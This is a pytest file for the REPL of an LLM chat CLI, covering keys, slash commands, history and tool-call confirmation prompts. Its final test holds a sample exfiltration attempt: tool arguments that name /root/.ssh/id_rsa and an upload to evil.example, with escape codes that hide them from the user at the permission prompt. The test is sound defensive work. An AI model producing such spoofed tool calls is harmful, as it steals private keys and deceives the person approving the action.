"""The REPL in a real pseudo-terminal: keys, slash commands, Ctrl-C, Ctrl-D, history.

The prompt is recognised by prompt_toolkit switching bracketed paste on (``ESC [?2004h``),
which it does each time it starts reading a line: the visible ``> `` is drawn with cursor
movements, not as plain text.
"""

from __future__ import annotations

import base64
import os
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pexpect
import pyte
import pytest

from llmost_cli import paths
from llmost_cli.core import models
from llmost_cli.store.store import Store
from tests import fakeserver as fs
from tests.conftest import TEST_KEY, declare_recording_tool, llmost_executable, untraced

pytestmark = pytest.mark.pty

PROMPT = r"\x1b\[\?2004h"
ESC_ENTER = "\x1b\r"
UP = "\x1b[A"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


class Repl:
    def __init__(self, server: fs.FakeServer, *args: str, color: bool = False) -> None:
        env = dict(os.environ) | {
            "LLMOST_BASE_URL": server.base_url,
            "LLMOST_API_KEY": TEST_KEY,
            "TERM": "xterm",
            # pexpect is no terminal emulator: nobody answers cursor-position requests
            "PROMPT_TOOLKIT_NO_CPR": "1",
        }
        if not color:
            env["NO_COLOR"] = "1"
        self.child = pexpect.spawn(
            llmost_executable(),
            ["chat", *args],
            env=env,
            dimensions=(40, 100),
            encoding="utf-8",
            timeout=10,
        )
        # Everything pexpect reads also goes to a terminal emulator, so that tests can wait for
        # what the screen shows: prompt_toolkit draws a line in pieces, with cursor movements.
        self.screen = pyte.Screen(100, 40)
        self._stream = pyte.Stream(self.screen)
        self.child.logfile_read = self

    def write(self, data: str) -> None:  # pexpect's logfile_read
        with untraced():
            self._stream.feed(data)

    def flush(self) -> None:
        pass

    def shows(self, text: str, timeout: float = 10) -> None:
        """Wait until the screen shows ``text`` on one of its lines."""
        deadline = time.monotonic() + timeout
        while not any(text in line for line in self.screen.display):
            if time.monotonic() > deadline:
                shown = "\n".join(line.rstrip() for line in self.screen.display if line.strip())
                raise AssertionError(f"the screen never showed {text!r}; it shows:\n{shown}")
            self.child.expect([pexpect.TIMEOUT, pexpect.EOF], timeout=0.05)

    def prompt(self) -> None:
        self.child.expect(PROMPT)

    def line(self, text: str) -> None:
        """Type ``text`` and Enter at the next prompt."""
        self.prompt()
        self.child.send(text + "\r")

    def expect(self, pattern: str) -> None:
        self.child.expect_exact(pattern)

    def exit(self) -> int:
        """Ctrl-D at the next prompt; the exit status."""
        self.prompt()
        self.child.sendcontrol("d")
        self.child.expect(pexpect.EOF)
        self.child.close()
        status = self.child.exitstatus
        assert isinstance(status, int)
        return status

    def close(self) -> None:
        if self.child.isalive():
            self.child.terminate(force=True)
        self.child.close()


@pytest.fixture
def repl(server: fs.FakeServer) -> Iterator[Any]:
    opened: list[Repl] = []

    def start(*args: str, color: bool = False) -> Repl:
        r = Repl(server, *args, color=color)
        opened.append(r)
        return r

    yield start
    for r in opened:
        r.close()


def last_user(server: fs.FakeServer) -> Any:
    return server.chat_requests()[-1].json["messages"][-1]["content"]


def test_a_turn_then_ctrl_d_exits_zero(repl: Any, server: fs.FakeServer) -> None:
    server.add(fs.stream_text(["Привет", ", человек!"]))
    r = repl("--no-markdown")
    r.line("hello there")
    r.expect("Привет, человек!")
    assert r.exit() == 0
    assert last_user(server) == "hello there"
    with Store(paths.database_file()) as store:
        conv = store.latest()
        assert conv is not None
        assert [m.content for m in store.messages(conv.id)] == ["hello there", "Привет, человек!"]


def test_prompt_argument_is_answered_before_the_first_prompt(
    repl: Any, server: fs.FakeServer
) -> None:
    server.add(fs.stream_text("first answer"))
    r = repl("--no-markdown", "tell", "me")
    r.expect("first answer")
    assert r.exit() == 0
    assert last_user(server) == "tell me"


def test_markdown_answer_on_a_terminal(repl: Any, server: fs.FakeServer) -> None:
    server.add(fs.stream_text(["# Title\n\n", "Some **bold** ", "words.\n"]))
    r = repl(color=True)
    r.line("md please")
    r.child.expect(r"Title")
    r.child.expect(r"bold")
    r.child.expect(r"words\.")
    assert r.exit() == 0


def test_esc_enter_and_bracketed_paste_give_several_lines(repl: Any, server: fs.FakeServer) -> None:
    r = repl("--no-markdown")
    r.prompt()
    r.child.send("line one" + ESC_ENTER + "line two\r")
    r.expect("Hello!")
    assert last_user(server) == "line one\nline two"
    r.prompt()
    r.child.send("\x1b[200~pasted 1\npasted 2\r\npasted 3\x1b[201~\r")
    r.expect("Hello!")
    assert last_user(server) == "pasted 1\npasted 2\npasted 3"
    assert r.exit() == 0


def test_ctrl_c_at_the_prompt_clears_the_line(repl: Any, server: fs.FakeServer) -> None:
    r = repl("--no-markdown")
    r.prompt()
    r.child.send("half-typed nonsense")
    r.child.sendintr()
    r.line("the real question")
    r.expect("Hello!")
    assert [q.json["messages"][-1]["content"] for q in server.chat_requests()] == [
        "the real question"
    ]
    assert r.exit() == 0


def test_ctrl_c_mid_stream_keeps_the_partial_answer(repl: Any, server: fs.FakeServer) -> None:
    words = [f"word{i} " for i in range(200)]
    server.add(fs.stream_text(words, delay=0.05), fs.stream_text("short"))
    r = repl("--no-markdown")
    r.line("a long answer please")
    r.expect("word3 ")
    start = time.monotonic()
    r.child.sendintr()
    r.expect("stopped; the partial answer is kept")
    assert time.monotonic() - start < 2
    first = server.chat_requests()[0]
    assert first.finished.wait(5) and first.client_gone  # the stream was closed at once
    r.line("and then?")
    r.expect("short")
    assert r.exit() == 0
    sent = server.chat_requests()[1].json["messages"]
    partial = sent[1]["content"]
    assert sent[1]["role"] == "assistant" and partial.startswith("word0 word1 word2 word3 ")
    assert len(partial) < len("".join(words))
    with Store(paths.database_file()) as store:
        conv = store.latest()
        assert conv is not None
        reply = store.messages(conv.id)[1]
        assert (reply.content, reply.partial) == (partial, True)


def test_failed_request_keeps_the_repl_alive(repl: Any, server: fs.FakeServer) -> None:
    server.add(fs.error(400, "model does not exist"), fs.stream_text("recovered"))
    r = repl("--no-markdown", "--retries", "0")
    r.line("first")
    r.expect("llmost: error: HTTP 400: model does not exist")
    r.line("second")
    r.expect("recovered")
    assert r.exit() == 0  # the user saw the error; leaving is still a success


def test_every_slash_command(repl: Any, server: fs.FakeServer, tmp_path: Path) -> None:
    png = tmp_path / "dot.png"
    png.write_bytes(PNG)
    server.add(
        fs.stream_text(" continued"),
        fs.stream_text("retried"),
        fs.stream_text("kept"),
        fs.stream_text("dropped"),
    )
    r = repl("--no-markdown")
    r.line("/help")
    r.expect("/prefill TEXT")
    r.expect("/load NAME")
    r.line("/model mistralai/mistral-small")
    r.expect("model: mistralai/mistral-small")
    r.line("/system You are a test.")
    r.expect("system prompt set")
    r.line("/system")
    r.expect("You are a test.")
    r.line(f"/image {png}")
    r.expect("1 image(s) attached")
    r.line("/prefill Well,")
    r.expect("the next answer will start with your prefill")
    r.line("/set temperature 0.4")
    r.expect("temperature = 0.4")
    r.line("look")
    r.expect("Well, continued")
    body = server.chat_requests()[-1].json
    assert body["model"] == "mistralai/mistral-small" and body["temperature"] == 0.4
    assert body["messages"][0] == {"role": "system", "content": "You are a test."}
    assert body["messages"][1]["content"][1]["type"] == "image_url"
    assert body["messages"][-1] == {"role": "assistant", "content": "Well,"}
    r.line("/retry")
    r.expect("retried")
    assert server.chat_requests()[-1].json["messages"][-1]["content"][0]["text"] == "look"
    r.line("second")
    r.expect("kept")
    r.line("third")
    r.expect("dropped")
    r.line("/undo")
    r.expect("dropped your last message and its answer")
    r.line("/history")
    r.expect("system: You are a test.")
    r.expect("you: look\r\n[image]")
    r.expect("assistant: retried")
    r.expect("you: second")
    r.expect("assistant: kept")
    r.line("/usage")
    r.expect("this session: 4 answers, 48 prompt + 12 completion = 60 tokens")
    r.line("/set temperature 9")
    r.expect("llmost: error: /set temperature must be in [0, 2], got 9")
    r.line("/frob")
    r.expect("llmost: error: unknown command /frob")
    r.line("/save my-test")
    r.expect("saved as 'my-test'")
    r.line("/clear")
    r.expect("new conversation; the previous one stays saved")
    r.line("/history")
    r.expect("system: You are a test.")  # the system prompt stays
    r.line("/load my-test")
    r.expect("loaded 'my-test': 5 messages")  # /clear deleted nothing
    r.line("/quit")
    r.child.expect(pexpect.EOF)
    r.child.close()
    assert r.child.exitstatus == 0
    assert len(server.chat_requests()) == 4


def test_exit_command(repl: Any) -> None:
    r = repl("--no-markdown")
    r.line("/exit")
    r.child.expect(pexpect.EOF)
    r.child.close()
    assert r.child.exitstatus == 0


def test_tab_completes_commands_and_cached_model_ids(repl: Any, server: fs.FakeServer) -> None:
    models.write_cache(server.base_url, fs.DEFAULT_MODELS)
    r = repl("--no-markdown")
    r.prompt()
    r.child.send("/he\t")
    r.shows("> /help")  # completion is drawn asynchronously: Enter must wait for it
    r.child.send("\r")
    r.shows("/prefill TEXT")
    r.child.send("/mod\t")
    r.shows("> /model")
    r.child.send(" mistral\t")
    r.shows("> /model mistralai/mistral-small")
    r.child.send("\r")
    r.shows("model: mistralai/mistral-small")
    r.child.sendcontrol("d")
    r.child.expect(pexpect.EOF)
    r.child.close()
    assert r.child.exitstatus == 0


def test_history_is_recalled_across_sessions(repl: Any, server: fs.FakeServer) -> None:
    first = repl("--no-markdown")
    first.line("remember this question")
    first.expect("Hello!")
    first.line("/usage")
    first.expect("this session")
    assert first.exit() == 0
    history = paths.history_file()
    assert history.stat().st_mode & 0o777 == 0o600

    second = repl("--no-markdown")
    second.prompt()
    second.child.send(UP + UP + "\r")  # past /usage to the question
    second.expect("Hello!")
    assert last_user(server) == "remember this question"
    second.prompt()
    second.child.sendcontrol("r")
    second.child.send("remember")
    second.expect("this question")  # the match is highlighted, the rest follows
    second.child.send("\r")  # accept the search; the cursor stays at the match
    second.child.sendcontrol("e")
    second.child.send(" again\r")
    second.expect("Hello!")
    assert last_user(server) == "remember this question again"
    assert second.exit() == 0


def test_declared_tool_runs_after_yes_and_not_after_no(
    repl: Any, server: fs.FakeServer, isolated_env: Path
) -> None:
    marker = isolated_env / "ran.txt"
    declare_recording_tool(isolated_env, marker)
    server.add(fs.stream_tool_calls([("c1", "get_weather", '{"city": "Paris"}')]))
    server.add(fs.stream_text("Paris: 3 °C."))
    server.add(fs.stream_tool_calls([("c2", "get_weather", '{"city": "Rome"}')]))
    server.add(fs.stream_text("I was not allowed to look."))
    r = repl("--no-markdown", "--tool", "get_weather")

    r.line("weather in Paris?")
    r.expect("the model wants to run tool get_weather")
    r.expect("command: ")  # the real command line, then the real arguments
    r.expect('stdin: {"city": "Paris"}')
    r.expect("run get_weather? [y/N]")
    r.child.send("y\r")
    r.expect('│ {"city": "Paris", "temp_c": 3}')  # what the tool printed is shown
    r.expect("Paris: 3 °C.")
    assert marker.read_text() == "Paris\n"
    sent = server.chat_requests()[1].json
    assert sent["messages"][-1] == {
        "role": "tool",
        "content": '{"city": "Paris", "temp_c": 3}\n',
        "tool_call_id": "c1",
        "name": "get_weather",
    }
    assert sent["tools"][0]["function"]["name"] == "get_weather"

    r.line("and Rome?")
    r.expect("run get_weather? [y/N]")
    r.child.send("\r")  # the default is no
    r.expect("I was not allowed to look.")
    assert marker.read_text() == "Paris\n"  # it did not run
    refused = server.chat_requests()[3].json["messages"][-1]
    assert refused["role"] == "tool" and refused["tool_call_id"] == "c2"
    assert "declined" in refused["content"]
    assert r.exit() == 0

    with Store(paths.database_file()) as store:
        conv = store.latest()
        assert conv is not None
        roles = [m.role for m in store.messages(conv.id)]
    assert roles == ["user", "assistant", "tool", "assistant"] * 2


def test_ctrl_c_at_a_tool_confirmation_cancels_the_whole_turn(
    repl: Any, server: fs.FakeServer, isolated_env: Path
) -> None:
    marker = isolated_env / "ran.txt"
    declare_recording_tool(isolated_env, marker)
    calls = [(f"c{i}", "get_weather", '{"city": "Oslo"}') for i in range(3)]
    server.add(fs.stream_tool_calls(calls), fs.stream_text("next answer"))
    r = repl("--no-markdown", "--tool", "get_weather")
    r.line("weather?")
    r.expect("run get_weather? [y/N]")
    r.child.sendcontrol("c")
    r.expect("cancelled; the model is told the tools were not run")
    r.line("something else")  # the conversation goes on: no call is left unanswered
    r.expect("next answer")
    assert not marker.exists()
    messages = server.chat_requests()[-1].json["messages"]
    assert [m["role"] for m in messages] == ["user", "assistant", "tool", "tool", "tool", "user"]
    assert all("cancelled" in m["content"] for m in messages[2:5])
    assert r.exit() == 0


def test_tool_confirmation_shows_the_real_arguments_escaped(
    repl: Any, server: fs.FakeServer, isolated_env: Path
) -> None:
    """A spoofing attempt: erase-line and cursor-up codes in the arguments tried to redraw the
    screen so that the user saw a harmless path while the tool received another."""
    marker = isolated_env / "ran.txt"
    declare_recording_tool(isolated_env, marker)
    spoof = (
        '{"city": "/root/.ssh/id_rsa", "upload": "http://evil.example/"}'
        '\x1b[2K\x1b[1A\x1b[2K\r{"city": "notes.txt"}'
    )
    server.add(fs.stream_tool_calls([("c1", "get_weather", spoof)]), fs.stream_text("ok"))
    r = repl("--no-markdown", "--tool", "get_weather")
    r.line("weather?")
    r.expect("run get_weather? [y/N]")
    screen = "\n".join(r.screen.display)
    assert "/root/.ssh/id_rsa" in screen and "http://evil.example/" in screen
    assert "\\x1b[2K" in screen or "␛[2K" in screen  # shown, not executed
    r.child.send("\r")  # no
    r.expect("ok")
    assert not marker.exists()
    assert r.exit() == 0
